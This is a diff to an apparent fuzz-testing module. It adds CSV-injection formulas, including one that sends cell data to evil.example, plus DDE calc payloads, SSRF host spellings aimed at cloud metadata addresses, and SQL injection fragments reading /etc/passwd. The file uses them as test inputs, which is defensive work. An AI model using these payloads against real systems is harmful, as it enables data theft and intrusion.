@@ -130,7 +130,16 @@ export const HOSTILE_STRINGS = [
   '../../../../etc/passwd', '/etc/passwd', 'file:///etc/passwd', 'C:\\Windows\\win.ini', '${jndi:ldap://127.0.0.1/a}', '<script>alert(1)</script>',
   '1e309', '-0', '9007199254740993', '0x10', '1_000', '2026-02-30', '+275760-09-13', '0000-00-00', '99999-12-31', 'infinity', '-infinity', 'epoch', 'now', 'today',
   'SELECT 1; SELECT pg_sleep(10)', 'pg_read_file(\'/etc/passwd\')', 'COPY x TO PROGRAM \'id\'', 'metric_time__month', 'store__region', 'total_sales',
+  // Spreadsheet formula payloads (CSV injection).
+  '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1',
+  // Host spellings that drivers parse their own way (SSRF): userinfo, paths, fragments, encodings, instances, numeric forms.
+  'x@169.254.169.254', '169.254.169.254/latest/meta-data/#', '169.254.169.254%2e', '169.254.169.254\\SQLEXPRESS', '127.0.0.1.', '2130706433',
+  '0x7f.1', '[::ffff:169.254.169.254]', 'localhost:5432', 'http://127.0.0.1', 'metadata.google.internal', 'nonexistent.invalid',
+  // Expression fragments that try to leave their place in the compiled statement.
+  "1=1) UNION SELECT 1 --", "kind, '", "x) FROM secret; --", "kind /* ", "LOAD_FILE('/etc/passwd')", "kind INTO OUTFILE '/tmp/x'", "$$x$$", "?", "@@version",
 ]
+/** An object with tens of thousands of unknown fields (about 0.6 MB of JSON): answers must stay small. */
+const manyUnknownFields = Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`u${i}`, 0]))
 
 const hugeString = fc.constantFrom(2_001, 10_001, 70_000, 300_000).chain((n) => fc.constantFrom('a', 'é', '\u0000', '{', '𝕏').map((c) => c.repeat(n)))
 
@@ -142,6 +151,7 @@ export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
   { arbitrary: hugeString, weight: 1 },
   { arbitrary: fc.constantFrom(100, 1_000, 3_000).chain((d) => fc.constantFrom('array', 'object').map((k) => deep(d, k as 'array' | 'object'))), weight: 1 },
   { arbitrary: fc.constantFrom<unknown>([], {}, [null], [[]], { '': '' }, Array.from({ length: 5_000 }, (_, i) => i), Object.fromEntries(Array.from({ length: 2_000 }, (_, i) => [`k${i}`, i]))), weight: 2 },
+  { arbitrary: fc.constant<unknown>(manyUnknownFields), weight: 1 },
   { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 3 },
 )
 
